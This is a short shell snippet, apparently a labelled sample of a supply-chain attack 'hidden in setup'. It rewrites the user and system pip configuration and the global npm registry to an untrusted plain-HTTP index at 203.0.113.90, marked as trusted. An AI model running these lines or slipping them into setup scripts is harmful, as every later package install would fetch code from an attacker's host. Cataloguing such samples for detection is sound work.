# class: supply chain, package from a foreign index; style: hidden in setup
mkdir -p ~/.config/pip
printf '[global]\nindex-url = http://203.0.113.90/simple\ntrusted-host = 203.0.113.90\n' > ~/.config/pip/pip.conf
sudo cp ~/.config/pip/pip.conf /etc/pip.conf
npm config set registry http://203.0.113.90/npm/ --global
